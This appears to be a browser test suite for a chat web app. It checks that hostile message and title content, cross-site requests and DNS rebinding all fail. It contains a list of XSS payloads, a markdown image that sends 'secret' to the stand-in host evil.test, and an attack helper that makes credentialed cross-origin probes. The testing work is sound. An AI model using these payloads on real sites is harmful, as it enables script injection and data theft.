// Text that wants to be a program, and sites that want to be us.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { enter, openConversation, openPage, startBrowser, startServer, until, watch } from './server.mjs';

let server;
let browser;

before(async () => {
  server = await startServer();
  browser = await startBrowser(['--host-resolver-rules=MAP evil.test 127.0.0.1']);
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

const SPOOF = String.fromCodePoint(0x202e, 0x2066, 0x200f);
const PAYLOADS = [
  '<img src=x onerror="window.owned=1">',
  '<script>window.owned=1</script>',
  '</title></textarea></style><svg onload=window.owned=1>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '[click](javascript:window.owned=1) javascript:window.owned=1',
  '<a href="javascript:window.owned=1">x</a>',
  '![x](https://evil.test/?q=secret) <img src="https://evil.test/p.png">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
  '{{constructor.constructor("window.owned=1")()}} ${window.owned=1} {@html "<b>"}',
  '```html"><img src=x onerror=window.owned=1>\n<script>window.owned=1</script>\n```',
  `abc${SPOOF}def exe.txt`,
  'nul\u0000 esc\u001b[31m bell\u0007 end',
  '\u2028\u2029<svg/onload=window.owned=1>',
  'مرحبا <b onmouseover=window.owned=1>שלום</b>',
];

test('hostile titles and messages run nothing and are shown as they are', async () => {
  const parts = PAYLOADS.flatMap((text) => [
    { type: 'text', text },
    { type: 'reasoning', text },
    { type: 'tool_call', id: text, name: text, input: { [text]: text } },
    { type: 'tool_result', call: text, content: text },
    { type: 'error', text },
    { type: 'summary', text },
    { type: 'source', title: text, url: 'javascript:window.owned=1' },
    { type: text, anything: text },
  ]);
  const made = [];
  for (const title of PAYLOADS) {
    const { id } = await server.call('POST', '/conversations', { title });
    const author = { id: title, name: title };
    const messages = [{ role: 'assistant', model: title, author, parts }, { role: title, text: title }, { role: 'user', text: title }];
    await server.call('POST', `/conversations/${id}/messages`, { messages });
    made.push({ id, title });
  }
  const { context, page, errors } = await openPage(browser);
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  await enter(page, server);
  for (const { id, title } of made) {
    await openConversation(page, id);
    await until(async () => (await page.getByTestId('message').count()) === 3, 'the messages are there');
    await page.evaluate(() => document.querySelectorAll('[data-testid="fold"]').forEach((fold) => (fold.open = true)));
    await page.mouse.move(700, 400);
    const body = await page.locator('[data-testid="message"][data-role="user"]').getByTestId('message-body').innerText();
    // Entities are decoded to text.
    const shown = title.replaceAll('&lt;', '<').replaceAll('&gt;', '>');
    if (!/[\u0000-\u001f\u2028\u2029`]/.test(title)) assert.equal(body, shown);
    assert.ok(!/[\u0000-\u0008\u001b]/.test(body), 'control characters are made visible');
  }
  const found = await page.evaluate(() => ({
    owned: window.owned,
    violations: window.violations,
    foreign: document.querySelectorAll('#app :is(iframe, object, embed, script, img, [onerror], [onload], a[href^="javascript" i])').length,
  }));
  // A title with an override must not turn the text around it.
  const isolated = await page.evaluate(() =>
    [...document.querySelectorAll('[data-testid="row-title"] bdi')].every((one) => getComputedStyle(one).unicodeBidi.startsWith('isolate')),
  );
  await context.close();
  assert.deepEqual(found, { owned: undefined, violations: [], foreign: 0 });
  assert.ok(isolated);
  assert.deepEqual(errors, []);
});

test('what the server says in a problem is shown as text too', async () => {
  const { id } = await server.call('POST', '/conversations', { title: 'Problem' });
  const { context, page, errors } = await openPage(browser, { allow: /Failed to load resource/ });
  await enter(page, server);
  await openConversation(page, id);
  await page.route('**/messages', (route) =>
    route.request().method() === 'POST'
      ? route.fulfill({ status: 500, json: { code: 'x', detail: '<img src=x onerror="window.owned=1">' } })
      : route.fallback(),
  );
  await page.getByTestId('composer-field').fill('hi');
  await page.getByTestId('composer-field').press('Enter');
  assert.match(await page.getByTestId('send-problem').innerText(), /<img src=x/);
  assert.equal(await page.evaluate(() => window.owned), undefined);
  await context.close();
  assert.deepEqual(errors, []);
});

/** Tries everything a foreign page can try, and returns what it got. */
async function attack(page, target) {
  return page.evaluate(async (target) => {
    const got = [];
    const tries = [
      ['GET', '/api/v1/conversations', undefined, {}],
      ['GET', '/api/v1/session', undefined, {}],
      ['GET', '/api/v1/export', undefined, {}],
      ['GET', '/api/v1/journal', undefined, { accept: 'text/event-stream' }],
      ['POST', '/api/v1/conversations', '{"title":"stolen"}', { 'content-type': 'application/json' }],
      ['POST', '/api/v1/conversations', '{"title":"stolen"}', { 'content-type': 'text/plain' }],
      ['POST', '/api/v1/erase', '{"author":"x"}', { 'content-type': 'text/plain' }],
    ];
    for (const [method, path, body, headers] of tries) {
      for (const mode of ['cors', 'no-cors', 'same-origin']) {
        try {
          const response = await fetch(target + path, { method, body, headers, mode, credentials: 'include' });
          if (response.ok) got.push(`${mode} ${method} ${path}: ${(await response.text()).slice(0, 80)}`);
        } catch {
          // Refused is what we want.
        }
      }
    }
    const frame = document.createElement('iframe');
    frame.src = target;
    document.body.append(frame);
    await new Promise((resolve) => {
      frame.onload = resolve;
      setTimeout(resolve, 3000);
    });
    try {
      if (frame.contentDocument?.querySelector('#app')) got.push('the page in a frame');
    } catch {
      // Another origin may not look inside.
    }
    for (const tag of ['script', 'img']) {
      const loaded = await new Promise((resolve) => {
        const element = document.createElement(tag);
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
        try {
          element.src = `${target}/${tag === 'script' ? 'first.js' : 'favicon.svg'}`;
          document.body.append(element);
        } catch {
          // Our own rules hold on the page that refuses a stranger, too.
          resolve(false);
        }
      });
      if (loaded) got.push(`<${tag}>`);
    }
    return got;
  }, target);
}

test('a page of another site gets nothing, though the browser has a session', async () => {
  const before = (await server.call('GET', '/conversations?limit=1000')).conversations.length;
  const other = createServer((_, response) => response.setHeader('content-type', 'text/html').end('<!doctype html><title>evil</title>'));
  await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
  const { context, page } = await openPage(browser);
  await enter(page, server);
  const foreign = await context.newPage();
  await foreign.goto(`http://127.0.0.1:${other.address().port}/`);
  const sameSite = await attack(foreign, server.origin);
  await foreign.goto(`http://evil.test:${other.address().port}/`);
  const crossSite = await attack(foreign, server.origin);
  await context.close();
  other.close();
  assert.deepEqual({ sameSite, crossSite }, { sameSite: [], crossSite: [] });
  assert.equal((await server.call('GET', '/conversations?limit=1000')).conversations.length, before);
});

test('a name that was bound to our address gets nothing', async () => {
  const rebound = `http://evil.test:${new URL(server.origin).port}`;
  const { context, page } = await openPage(browser);
  await enter(page, server);
  const evil = await context.newPage();
  const answer = await evil.goto(`${rebound}/`);
  assert.equal(answer.status(), 403);
  assert.ok(!(await evil.content()).includes('id="app"'));
  assert.deepEqual(await attack(evil, rebound), []);
  await context.close();
});

test('the watch of these tests sees a dialog, an error and a foreign request', async () => {
  const page = await browser.newPage();
  const errors = watch(page);
  await page.setContent('<img src="http://evil.test:1/x"><script>console.error("seen"); alert(1); throw new Error("thrown")</script>');
  await until(async () => errors.length >= 4, 'all of them are seen');
  await page.close();
  for (const kind of [/request to http:\/\/evil/, /console error: seen/, /dialog: 1/, /page error: .*thrown/]) {
    assert.ok(errors.some((error) => kind.test(error)), `${kind} in ${errors}`);
  }
});
